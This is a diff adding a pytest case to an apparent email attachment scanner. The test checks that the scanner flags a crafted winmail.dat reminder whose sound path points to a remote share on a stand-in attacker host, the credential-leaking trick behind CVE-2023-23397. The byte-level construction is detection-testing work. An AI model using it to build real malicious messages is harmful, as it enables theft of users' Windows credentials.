@@ -95,3 +95,14 @@ def test_a_text_in_winmail_dat_that_begins_as_a_pdf_document_keeps_its_links(res
     body = b"%PDF-1.7\r\n" + b"text\r\n" * 300 + b"https://evil.example/x " + rest
     found = inspect(attached(winmail() + attribute(0x0002800C, body, 1), "winmail.dat"), Limits())
     assert "evil.example" in found.hosts
+
+
+@pytest.mark.parametrize("host", ["evil.example", "files"])
+def test_the_sound_of_a_reminder_in_winmail_dat_sent_a_password_to_a_server(host: str) -> None:
+    """CVE-2023-23397."""
+    path = f"\\\\{host}\\share\\a.wav"
+    common = bytes.fromhex("0820060000000000c000000000000046") + struct.pack("<II", 0, 0x851F)
+    for kind, value in ((0x1F, path.encode("utf-16-le") + b"\0\0"), (0x1E, path.encode() + b"\0")):
+        sound = struct.pack("<I", 0x851F0000 | kind) + common + struct.pack("<II", 1, len(value)) + value
+        content = winmail() + attribute(0x00069003, struct.pack("<I", 1) + sound + bytes(-len(value) % 4), 1)
+        assert ("office:exploit" in tags(content, "winmail.dat")) == (host == "evil.example")
